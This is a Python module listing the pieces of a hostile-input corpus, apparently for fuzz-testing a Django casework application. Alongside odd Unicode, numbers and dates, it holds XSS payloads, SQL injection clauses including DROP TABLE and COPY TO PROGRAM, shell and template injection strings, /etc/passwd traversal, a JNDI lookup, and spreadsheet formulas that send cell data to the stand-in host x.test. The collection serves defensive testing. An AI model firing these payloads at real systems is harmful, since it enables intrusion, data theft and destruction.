"""The pieces of which the hostile corpus is made: signs, payloads, odd numbers and days, odd words of an address."""

SCRIPTS = [
    "abc", "ÄÖß", "ꦗꦮ", "ᬩᬮᬶ", "ᨒᨚᨈᨑ", "漢字", "日本語", "한글", "العربية", "עברית", "हिन्दी", "ไทย", "Ελ", "Рус",
    "👩‍👩‍👧‍👦", "🇮🇩", "𝕊",
]  # fmt: skip
CONTROLS = [
    "\0", "\x01", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85", "\u200b", "\u202e", "\u2028", "\ufeff", "\ufffe",
    "\U000e0041", "\r", "\t",
]  # fmt: skip
HALVES = [
    "\ud800", "\udfff", "\udc00\ud800", "a\ud83d", "\udcff",
]  # fmt: skip
PAYLOADS = [
    "alert(1)", "fetch('//x.test/')", "document.cookie", "window.hostile=1", "import('//x.test')",
]  # fmt: skip
EVENTS = [
    "onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "ontoggle open", "hx-on:load",
    "onpointerenter",
]  # fmt: skip
TAGS = [
    "img src=x", "svg", "body", "input", "details", "video", "iframe", "a href=#", "math", "style", "object",
    "marquee",
]  # fmt: skip
QUOTES = [
    "", "'", '"', "\\", "')", '")', "`", "'))", "%27", "\u02bc", "$$",
]  # fmt: skip
CLAUSES = [
    "OR 1=1 --", "; DROP TABLE casework_case; --", "UNION SELECT NULL,NULL --", "AND pg_sleep(5) --",
    "|| (SELECT password FROM accounts_user LIMIT 1) ||", "; COPY (SELECT 1) TO PROGRAM 'id' --",
    "AND 1=CAST(version() AS int)",
]  # fmt: skip
COMMANDS = [
    "; id", "| cat /etc/passwd", "$(id)", "`id`", "&& sleep 5", "\n id", "%0aid", "${jndi:ldap://x.test/a}",
    "{{7*7}}", "{% debug %}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "{{settings.SECRET_KEY}}", "%(secret)s",
    "{0.__class__}", "%n%n%s", "../../etc/passwd", "..\\..\\win.ini", "file:///etc/passwd", "*)(uid=*",
    "<!--#exec cmd=id-->",
]  # fmt: skip
CELLS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.test";"klik")',
    '=IMPORTXML(CONCAT("http://x.test?",A1),"//a")', '=WEBSERVICE("http://x.test")', '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|'/C calc'!A0", "+1+1", "-1+1", "|calc",
]  # fmt: skip
LEADS = [
    "", "\t", "\r", " ", "\n", "'", '"', "\ufeff", "％", "＝", "﹦",
]  # fmt: skip
NUMERALS = [
    "0123456789", "٠١٢٣٤٥٦٧٨٩", "०१२३४५६७८९", "０１２３４５６７８９", "𝟎𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖𝟗",
]  # fmt: skip
ODD_NUMBERS = [
    "NaN", "Infinity", "-Infinity", "1e308", "1e999", "-0", "+1", "0x1F", "0b11", "1_000", "²", "½", "Ⅷ", "१२३",
    "1,5", "1.5", "1.500", "1,500.00", "1.500,00", "1.500.000,-", "Rp 1.500", "Rp. -5", "(500)", "−500",
    "1 000 000", "1\u00a0000", "satu juta", "", " ", "1/2", "5%", "00000001", "1.2.3", "..", ",", "1,,5", "IDR",
    "9" * 25, "9" * 5000, "1." * 3000, "-" * 500,
]  # fmt: skip
ODD_DAYS = [
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2027-02-29", "2028-02-29", "2026-13-01",
    "2026-00-10", "01/02/2025", "1/2/25", "31-12-2026", "12 Januari 2026", "besok", "now", "infinity", "-infinity",
    "epoch", "2026-W01-1", "2026-366", "20261231", "2026-12-31T23:59:60Z", "2026-12-31T24:00:00",
    "2026-12-31T00:00:00+99:99", "2026-12-31 00:00", "-2026-12-31", "２０２６-１２-３１", "2026‑12‑31", "1945-08-16",
    "2101-01-01", "2026-12-31\0", "Asia/Jakarta", "Asia/Jayapura", "Mars/Olympus", "../../etc/localtime", "UTC+25",
    "WIB", "+07:00", "Asia/Jakarta\0", "/etc/passwd", "posixrules",
]  # fmt: skip
PAGES = [
    "0", "-1", "1", "999999999", "1" + "0" * 25, "1e5", "NaN", "[]", "null", "%00", "../", "' OR 1=1", "-urut",
    "--urut", "pk", "case__owner__password", "-case__number;drop", "__class__", "?", "-?", "*", "[0]", "a" * 3000,
    "e30=", "bnVsbA==", "W10=", "WzEsMiwzXQ==", "Wzk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5LDEsMV0=", "WyJcdTAwMDAiLDEsMV0=",
    "WyJhIiwxZTk5OSwxXQ==", "W1tbW1tbW1tb", "=" * 40, "ÿ", "true", "on", "1,2,3", "1&2", "id", "csv", "xlsx",
    "../csv",
]  # fmt: skip
SECRETS = [
    "", "0", "null", "undefined", "-", "a" * 4000, "../../admin", "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff", "{00000000-0000-0000-0000-000000000000}",
    "urn:uuid:00000000-0000-0000-0000-000000000000", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", "1:1u:x", "MQ:1",
    "MQ-set-password", "admin", "' OR '1'='1", "\0", "%00", "\ud800", "Bearer x", "__proto__", "0" * 64, "g" * 32,
    "sessionid=1; sessionid=2", "\r\nSet-Cookie: a=b", "id; Path=/", '"', "\\", "𝟙𝟚",
]  # fmt: skip
EXTRA = [
    "is_superuser", "is_staff", "is_active", "password", "user", "user_id", "actor", "owner", "owner_id", "status",
    "state", "case", "case_id", "pk", "id", "number", "province", "upt", "institution", "roles", "role",
    "position_id", "author", "verifier", "body_id", "total", "created_at", "opened_at", "shared_at", "uploaded_by",
    "seat", "due_on", "visibility", "removed_at", "ended_at", "published_at", "sent_at", "_method",
    "csrfmiddlewaretoken", "__proto__", "constructor", "_save", "action",
]  # fmt: skip
GIVEN = [
    "1", "true", "on", "approved", "in_force", "administrator", "[]", "{}", "null", "2026-01-01", "999999", "x",
]  # fmt: skip
